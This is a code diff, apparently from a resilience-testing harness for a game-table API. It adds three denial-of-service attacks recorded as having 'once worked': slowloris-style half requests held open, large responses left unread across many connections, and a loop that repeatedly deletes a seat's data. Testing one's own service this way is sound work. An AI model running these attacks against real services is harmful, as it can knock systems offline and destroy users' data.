@@ -204,11 +204,54 @@ def slow_bodies(means: Means) -> object:
     return means.again(attack, 200)
 
 
+def unread(means: Means) -> object:
+    """Once worked: large answers that nobody reads, on as many connections as there may be."""
+    table = means.target.table
+    paths = (f"{API}/openapi.json", f"{API}/tables/{table}/replay?eyes=1")
+    asked = b"".join(means.request("GET", path, key=True) for path in paths) * 20
+
+    async def attack(m: Means) -> None:
+        async with m.line() as (reader, writer):
+            writer.write(asked)
+            m.tally["requests"] += 40
+            await asyncio.sleep(0.5)
+            await reader.read(1)
+            await asyncio.sleep(3)
+
+    return means.again(attack, 131)
+
+
+def late(means: Means) -> object:
+    """Once worked: half requests that close just as their time is over."""
+    half = means.request("GET", "/")[:-2]
+
+    async def attack(m: Means) -> None:
+        async with m.line() as (_, writer):
+            writer.write(half)
+            await asyncio.sleep(10 + next(m.count) % 40 / 20)
+
+    return means.again(attack, 250)
+
+
+def wipes(means: Means) -> object:
+    """Once worked: the own data wiped again and again."""
+    path = f"{API}/tables/{means.target.table}/seats/1"
+    asked = [
+        means.request("POST", f"{path}/rename", b'{"name":"Eve"}', key=True),
+        means.request("DELETE", f"{path}/data", key=True),
+        means.request("GET", f"{path}/data", key=True),
+    ]
+    return means.again(lambda m: m.ask(ever(*asked)), MANY)
+
+
 PROVEN: dict[str, Attack] = {
     "fragments": fragments,
     "qr": codes,
     "hints": hints,
     "half-open": half_open,
+    "late": late,
+    "unread": unread,
+    "wipes": wipes,
     "replay": get(API + "/tables/{table}/replay?eyes=1"),
 }
 OURS: dict[str, Attack] = {
